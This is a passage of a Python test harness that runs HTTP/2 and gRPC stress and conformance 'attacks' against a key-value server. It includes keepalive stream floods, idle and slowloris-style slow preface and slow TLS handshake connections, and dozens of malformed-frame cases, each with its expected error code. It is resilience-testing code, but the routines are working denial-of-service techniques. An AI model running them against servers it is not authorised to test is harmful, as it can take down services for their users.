    renewals of lease `lease` as fast as the windows take them. Reports the renewals
    sent, keepalive responses received, and how each stream ended."""
    streams, per = p.get('streams', 10), p.get('perStream', 5000)
    c = await connected(opts)
    msg = grpc_frame(keepalive_request(int(p['lease'])))
    block = c.request_block(KEEPALIVE, never_index=True)
    sids = []
    for _ in range(streams):
        sid = c.new_sid()
        sids.append(sid)
        c.headers(sid, block)

    async def one(sid):
        batch = p.get('batch', 100)
        sent = 0
        while sent < per and not c.stream(sid).finished and not c.closed:
            n = min(batch, per - sent)
            if not await c.send_data(sid, msg * n, timeout=5):
                break
            sent += n
        return sent

    sent = await asyncio.gather(*[one(s) for s in sids])
    await c.until(lambda: all(c.stream(s).finished for s in sids), p.get('waitMs', 5000) / 1000)
    responses = sum(c.stream(s).messages for s in sids)
    out = {'sent': sum(sent), 'responses': responses, 'summary': summarize_streams(c, sids),
           'messages': sorted({c.stream(s).field('grpc-message') or '' for s in sids}), **c.report()}
    c.close()
    return out


async def attack_idle(opts, p):
    """A connection that does nothing after its preface and SETTINGS (or, noPreface, sends
    nothing at all after TLS). Reports when and how the server closed it."""
    c = Conn(opts)
    await c.connect(preface=not p.get('noPreface', False))
    await c.until(lambda: c.closed, p.get('waitMs', 20000) / 1000)
    out = c.report()
    c.close()
    return out


async def attack_slow_preface(opts, p):
    """The connection preface and SETTINGS dribbled one byte every `intervalMs`."""
    c = Conn(opts)
    await c.connect(preface=False)
    data = PREFACE + frame(T_SETTINGS, 0, 0)
    sent = 0
    for b in data:
        if c.closed:
            break
        c.write(bytes([b]))
        await c.drain()
        sent += 1
        await asyncio.sleep(p.get('intervalMs', 1000) / 1000)
    await c.until(lambda: c.closed, p.get('waitMs', 15000) / 1000)
    return {'bytesSent': sent, 'of': len(data), **c.report()}


async def slow_handshake_one(opts, interval, wait):
    """Opens TCP and sends a TLS ClientHello one byte every `interval` s; the time until the server closes."""
    loop = asyncio.get_running_loop()
    reader, writer = await asyncio.open_connection(opts['host'], opts['port'])
    ctx = ssl.create_default_context(cafile=opts['ca'])
    ctx.check_hostname = False
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname='localhost')
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    started = loop.time()
    closed_at = None
    for b in hello:
        writer.write(bytes([b]))
        try:
            await writer.drain()
            got = await asyncio.wait_for(reader.read(1), interval)
            if got == b'':
                closed_at = loop.time() - started
                break
        except asyncio.TimeoutError:
            pass
        except (ConnectionError, OSError):
            closed_at = loop.time() - started
            break
        if loop.time() - started > wait:
            break
    writer.close()
    return {'closedAfterMs': None if closed_at is None else round(closed_at * 1000), 'helloBytes': len(hello)}


async def attack_slow_handshake(opts, p):
    """`connections` clients each sending its TLS ClientHello one byte every `intervalMs`."""
    results = await asyncio.gather(*[slow_handshake_one(opts, p.get('intervalMs', 500) / 1000, p.get('waitMs', 20000) / 1000)
                                     for _ in range(p.get('connections', 20))])
    closed = [r['closedAfterMs'] for r in results if r['closedAfterMs'] is not None]
    return {'connections': len(results), 'closed': len(closed), 'closedAfterMs': {'min': min(closed) if closed else None, 'max': max(closed) if closed else None}}


async def attack_fill(opts, p):
    """Not an attack: writes `count` keys `prefix`0.. of `size` bytes each (the data the
    readers attack), one Put at a time. Reports the gRPC statuses."""
    c = await connected(opts)
    value = b'v' * p.get('size', 1 << 20)
    sids = []
    for i in range(p.get('count', 10)):
        sid = c.new_sid()
        sids.append(sid)
        c.headers(sid, c.request_block(PUT, never_index=True))
        await c.send_data(sid, grpc_frame(put_request(('%s%d' % (p['prefix'], i)).encode(), value)), end_stream=True)
        await c.until(lambda: c.stream(sid).finished, 30)
    out = {'summary': summarize_streams(c, sids)}
    c.close()
    return out


# ------------------------------------------------------------------ protocol errors, one case per connection

def _case(name, expect, steps):
    return {'name': name, 'expect': expect, 'steps': steps}


async def run_case(opts, case):
    c = await connected(opts)
    await case['steps'](c)
    await c.drain()
    await c.until(lambda: c.closed or bool(c.goaways) or any(s.rst is not None for s in c.streams.values()), 3)
    await asyncio.sleep(0.2)
    rsts = {str(sid): error_name(s.rst) for sid, s in c.streams.items() if s.rst is not None}
    out = {'name': case['name'], 'expect': case['expect'], 'goaway': c.goaways[0]['code'] if c.goaways else None,
           'rst': rsts, 'closed': c.closed,
           'grpcStatus': {str(sid): s.field('grpc-status') for sid, s in c.streams.items() if s.field('grpc-status') is not None},
           'httpStatus': {str(sid): s.field(':status') for sid, s in c.streams.items() if s.field(':status') is not None}}
    if not c.closed and not c.goaways:
        c.next_sid = max([1] + [sid for sid in c.streams if sid % 2 == 1]) + 2
        out['after'] = (await legit_range(c))['grpcStatus']
    c.close()
    return out


def protocol_cases():
    req = grpc_frame(range_request(b'/attack/proto'))

    def open_req(c, sid, end=True, extra=()):
        c.headers(sid, c.request_block(RANGE, extra=extra, never_index=True))
        if end:
            c.write(frame(T_DATA, END_STREAM, sid, req))

    async def answered(c, sid):
        await c.until(lambda: c.stream(sid).finished, 5)

    def steps(fn):
        return fn

    async def headers_reuse(c):
        open_req(c, 1)
        await c.drain()
        await answered(c, 1)
        open_req(c, 1)

    async def headers_backwards(c):
        open_req(c, 5)
        await c.drain()
        await answered(c, 5)
        open_req(c, 3)

    async def even_stream(c):
        open_req(c, 2)

    async def data_half_closed(c):
        c.headers(1, c.request_block(WATCH, never_index=True), end_stream=True)
        c.write(frame(T_DATA, 0, 1, req))

    async def data_after_closed(c):
        open_req(c, 1)
        await c.drain()
        await answered(c, 1)
        c.write(frame(T_DATA, 0, 1, req))

    async def data_after_client_rst(c):
        c.headers(1, c.request_block(WATCH, never_index=True))
        c.write(frame(T_RST, 0, 1, (8).to_bytes(4, 'big')))
        c.write(frame(T_DATA, 0, 1, req))

    async def data_idle(c):
        c.write(frame(T_DATA, 0, 7, req))

    async def window_idle(c):
        c.write(frame(T_WINDOW, 0, 7, (1).to_bytes(4, 'big')))

    async def rst_idle(c):
        c.write(frame(T_RST, 0, 7, (8).to_bytes(4, 'big')))

    async def cont_interrupted(c):
        c.headers(1, c.request_block(RANGE, never_index=True), end_headers=False)
        c.write(frame(T_PING, 0, 0, b'12345678'))

    async def cont_other_stream(c):
        c.headers(1, c.request_block(RANGE, never_index=True), end_headers=False)
        c.write(frame(T_CONT, END_HEADERS, 3, b'\x82'))

    async def cont_without_headers(c):
        open_req(c, 1)
        c.write(frame(T_CONT, END_HEADERS, 1, b'\x82'))

    async def settings_ack_payload(c):
        c.write(frame(T_SETTINGS, ACK, 0, b'\0\0\0\0\0\0'))

    async def settings_bad_length(c):
        c.write(frame(T_SETTINGS, 0, 0, b'\0\0\0'))

    async def settings_on_stream(c):
        c.write(frame(T_SETTINGS, 0, 1, b''))

    async def settings_window_too_big(c):
        c.write(frame(T_SETTINGS, 0, 0, settings_payload({S_INITIAL_WINDOW: 0x80000000})))

    async def settings_frame_size_small(c):
        c.write(frame(T_SETTINGS, 0, 0, settings_payload({S_MAX_FRAME: 16383})))

    async def settings_push_two(c):
        c.write(frame(T_SETTINGS, 0, 0, settings_payload({2: 2})))

    async def ping_bad_length(c):
        c.write(frame(T_PING, 0, 0, b'1234567'))

    async def ping_on_stream(c):
        c.write(frame(T_PING, 0, 1, b'12345678'))

    async def window_zero_conn(c):
        c.write(frame(T_WINDOW, 0, 0, (0).to_bytes(4, 'big')))

    async def window_zero_stream(c):
        c.headers(1, c.request_block(WATCH, never_index=True))
        c.write(frame(T_WINDOW, 0, 1, (0).to_bytes(4, 'big')))

    async def window_overflow_conn(c):
        c.write(frame(T_WINDOW, 0, 0, (0x7fffffff).to_bytes(4, 'big')))

    async def window_overflow_stream(c):
        c.headers(1, c.request_block(WATCH, never_index=True))
        c.write(frame(T_WINDOW, 0, 1, (0x7fffffff).to_bytes(4, 'big')))

    async def window_bad_length(c):
        c.write(frame(T_WINDOW, 0, 0, b'\0\0\1'))

    async def frame_too_large(c):
        c.write(frame(T_DATA, 0, 1, b'\0' * 16385))

    async def data_stream_0(c):
        c.write(frame(T_DATA, 0, 0, b'x'))

    async def headers_stream_0(c):
        c.write(frame(T_HEADERS, END_HEADERS, 0, c.request_block(RANGE, never_index=True)))

    async def push_promise(c):
        c.write(frame(T_PUSH, END_HEADERS, 1, b'\0\0\0\2\x82'))

    async def rst_stream_0(c):
        c.write(frame(T_RST, 0, 0, (8).to_bytes(4, 'big')))

    async def rst_bad_length(c):
        open_req(c, 1, end=False)
        c.write(frame(T_RST, 0, 1, b'\0\0\0'))

    async def priority_bad_length(c):
        c.write(frame(T_PRIORITY, 0, 1, b'\0\0\0\0'))

    async def priority_self(c):
        c.write(frame(T_PRIORITY, 0, 1, (1).to_bytes(4, 'big') + b'\x10'))

    async def goaway_stream(c):
        c.write(frame(T_GOAWAY, 0, 1, b'\0' * 8))

    async def padding_too_long(c):
        c.headers(1, c.request_block(WATCH, never_index=True))
        c.write(frame(T_DATA, PADDED, 1, b'\x0a' + b'x' * 5))

    async def data_over_stream_window(c):
        # Stream 1 reserves the connection's whole budget for a 10 MiB message; stream 3's
        # message then waits for budget with its window closed, and is sent past it.
        for sid in (1, 3):
            c.headers(sid, c.request_block(PUT, never_index=True))
            c.write(frame(T_DATA, 0, sid, b'\x00' + (10 << 20).to_bytes(4, 'big') + b'\x0a'))
        await c.drain()
        await asyncio.sleep(0.2)
        chunk = b'\x01' * 16384
        for _ in range(c.initial_window // len(chunk) + 2):
            c.write(frame(T_DATA, 0, 3, chunk))

    async def hpack_bad_index(c):
        c.write(frame(T_HEADERS, END_HEADERS | END_STREAM, 1, b'\xff\xff\xff\x0f'))

    async def hpack_table_update_too_big(c):
        c.write(frame(T_HEADERS, END_HEADERS | END_STREAM, 1, b'\x3f\xe1\xff\x03' + c.request_block(RANGE, never_index=True)))

    def header_case(fields):
        async def run(c):
            block = hpack.Encoder().encode(fields)
            c.write(frame(T_HEADERS, END_HEADERS | END_STREAM, 1, block))
        return run

    base = [(':method', 'POST'), (':scheme', 'https'), (':path', RANGE), (':authority', 'localhost'), ('content-type', 'application/grpc')]
    return [
        _case('HEADERS on a stream id already used (closed after END_STREAM both ways)', ['goaway:STREAM_CLOSED', 'goaway:PROTOCOL_ERROR'], headers_reuse),
        _case('HEADERS with a stream id below one already used', ['goaway:PROTOCOL_ERROR'], headers_backwards),
        _case('HEADERS on an even stream id', ['goaway:PROTOCOL_ERROR'], even_stream),
        _case('DATA on a half-closed (remote) stream', ['rst:STREAM_CLOSED', 'goaway:STREAM_CLOSED'], data_half_closed),
        _case('DATA on a stream closed by END_STREAM both ways', ['goaway:STREAM_CLOSED', 'rst:STREAM_CLOSED'], data_after_closed),
        _case('DATA after the client reset the stream', ['rst:STREAM_CLOSED', 'goaway:STREAM_CLOSED'], data_after_client_rst),
        _case('DATA on an idle stream', ['goaway:PROTOCOL_ERROR'], data_idle),
        _case('WINDOW_UPDATE on an idle stream', ['goaway:PROTOCOL_ERROR'], window_idle),
        _case('RST_STREAM on an idle stream', ['goaway:PROTOCOL_ERROR'], rst_idle),
        _case('a header block interrupted by PING', ['goaway:PROTOCOL_ERROR'], cont_interrupted),
        _case('CONTINUATION on another stream', ['goaway:PROTOCOL_ERROR'], cont_other_stream),
        _case('CONTINUATION after END_HEADERS', ['goaway:PROTOCOL_ERROR'], cont_without_headers),
        _case('SETTINGS ACK with a payload', ['goaway:FRAME_SIZE_ERROR'], settings_ack_payload),
        _case('SETTINGS payload not a multiple of 6', ['goaway:FRAME_SIZE_ERROR'], settings_bad_length),
        _case('SETTINGS on a stream', ['goaway:PROTOCOL_ERROR'], settings_on_stream),
        _case('SETTINGS_INITIAL_WINDOW_SIZE above 2^31-1', ['goaway:FLOW_CONTROL_ERROR'], settings_window_too_big),
        _case('SETTINGS_MAX_FRAME_SIZE below 16384', ['goaway:PROTOCOL_ERROR'], settings_frame_size_small),
        _case('SETTINGS_ENABLE_PUSH 2', ['goaway:PROTOCOL_ERROR'], settings_push_two),
        _case('PING of 7 bytes', ['goaway:FRAME_SIZE_ERROR'], ping_bad_length),
        _case('PING on a stream', ['goaway:PROTOCOL_ERROR'], ping_on_stream),
        _case('WINDOW_UPDATE 0 on the connection', ['goaway:PROTOCOL_ERROR'], window_zero_conn),
        _case('WINDOW_UPDATE 0 on a stream', ['rst:PROTOCOL_ERROR'], window_zero_stream),
        _case('connection window above 2^31-1', ['goaway:FLOW_CONTROL_ERROR'], window_overflow_conn),
        _case('stream window above 2^31-1', ['rst:FLOW_CONTROL_ERROR'], window_overflow_stream),
        _case('WINDOW_UPDATE of 3 bytes', ['goaway:FRAME_SIZE_ERROR'], window_bad_length),
        _case('a frame above SETTINGS_MAX_FRAME_SIZE', ['goaway:FRAME_SIZE_ERROR'], frame_too_large),
        _case('DATA on stream 0', ['goaway:PROTOCOL_ERROR'], data_stream_0),
        _case('HEADERS on stream 0', ['goaway:PROTOCOL_ERROR'], headers_stream_0),
        _case('PUSH_PROMISE from a client', ['goaway:PROTOCOL_ERROR'], push_promise),
        _case('RST_STREAM on stream 0', ['goaway:PROTOCOL_ERROR'], rst_stream_0),
        _case('RST_STREAM of 3 bytes', ['goaway:FRAME_SIZE_ERROR'], rst_bad_length),
        _case('PRIORITY of 4 bytes', ['rst:FRAME_SIZE_ERROR', 'goaway:FRAME_SIZE_ERROR'], priority_bad_length),
        _case('PRIORITY depending on itself', ['rst:PROTOCOL_ERROR'], priority_self),
        _case('GOAWAY on a stream', ['goaway:PROTOCOL_ERROR'], goaway_stream),
        _case('padding longer than the frame', ['goaway:PROTOCOL_ERROR'], padding_too_long),
        _case('DATA beyond the stream window', ['rst:FLOW_CONTROL_ERROR', 'goaway:FLOW_CONTROL_ERROR'], data_over_stream_window),
        _case('HPACK index beyond both tables', ['goaway:COMPRESSION_ERROR'], hpack_bad_index),
        _case('HPACK table size update above the SETTINGS value', ['goaway:COMPRESSION_ERROR'], hpack_table_update_too_big),
        _case('upper-case header name', ['rst:PROTOCOL_ERROR'], header_case(base + [('X-Upper', 'v')])),
        _case('pseudo-header after a regular field', ['rst:PROTOCOL_ERROR'], header_case(base[:4] + [('content-type', 'application/grpc'), (':method', 'POST')])),
        _case('unknown pseudo-header', ['rst:PROTOCOL_ERROR'], header_case(base + [(':foo', 'bar')])),
        _case('connection-specific header', ['rst:PROTOCOL_ERROR'], header_case(base + [('connection', 'keep-alive')])),
        _case('te other than trailers', ['rst:PROTOCOL_ERROR'], header_case(base + [('te', 'gzip')])),
        _case('no :path', ['rst:PROTOCOL_ERROR'], header_case([base[0], base[1], base[3], base[4]])),
        _case('empty :path', ['rst:PROTOCOL_ERROR'], header_case([base[0], base[1], (':path', ''), base[3], base[4]])),
        _case(':method twice', ['rst:PROTOCOL_ERROR'], header_case(base + [(':method', 'POST')])),
        _case('a response pseudo-header in a request', ['rst:PROTOCOL_ERROR'], header_case(base[:4] + [(':status', '200')])),
        _case('trailers without END_STREAM', ['rst:PROTOCOL_ERROR'], steps(trailers_without_end)),
        _case('content-length above the DATA sent', ['rst:PROTOCOL_ERROR'], steps(content_length_mismatch(len(req) + 10))),
        _case('content-length below the DATA sent', ['rst:PROTOCOL_ERROR'], steps(content_length_mismatch(len(req) - 1))),
        _case('content-length on HEADERS that end the stream', ['rst:PROTOCOL_ERROR'], header_case(base + [('content-length', '5')])),
        _case('a pseudo-header in the trailers of a gateway (not gRPC) request', ['rst:PROTOCOL_ERROR'], steps(gateway_pseudo_trailer)),
    ]


def content_length_mismatch(declared):
    """A Range whose content-length is `declared` while its DATA carries the whole framed request."""
    async def run(c):
        req = grpc_frame(range_request(b'/attack/proto'))
        c.headers(1, c.request_block(RANGE, extra=[('content-length', str(declared))], never_index=True))
        c.write(frame(T_DATA, END_STREAM, 1, req))
    return run


async def gateway_pseudo_trailer(c):
    # A request the JSON gateway would answer 404 at once, had it not waited for its end.
    c.headers(1, hpack.Encoder().encode([(':method', 'GET'), (':scheme', 'https'), (':path', '/'), (':authority', 'localhost')]))
    c.headers(1, c.enc.encode([(':method', 'GET')]), end_stream=True)


async def trailers_without_end(c):
    c.headers(1, c.request_block(WATCH, never_index=True))
    c.headers(1, c.enc.encode([('x-trailer', 'v')]), end_stream=False)


async def attack_protocol_errors(opts, p):
    """One malformed frame or header block per connection (the cases in protocol_cases).
    Reports, per case, the GOAWAY code, RST_STREAM codes, and, when the connection went
    on, an ordinary Range's gRPC status on it."""
    only = p.get('only')
    results = []
    for case in protocol_cases():
        if only is not None and case['name'] not in only:
            continue
        results.append(await run_case(opts, case))
    return {'cases': results}


async def main():
    args = sys.argv[1:]
    opts = {'host': '127.0.0.1'}
    while args and args[0].startswith('--'):
        opts[args[0][2:]] = args[1]
        args = args[2:]
    opts['port'] = int(opts['port'])
    name = args[0]
    params = json.loads(args[1]) if len(args) > 1 else {}
    fn = globals().get('attack_' + name.replace('-', '_'))
    if fn is None:
        raise SystemExit('unknown attack ' + name)
    started = time.monotonic()
    result = await fn(opts, params)
    result['attack'] = name
    result['runMs'] = round((time.monotonic() - started) * 1000)
    print(json.dumps(result), flush=True)


if __name__ == '__main__':
    asyncio.run(main())
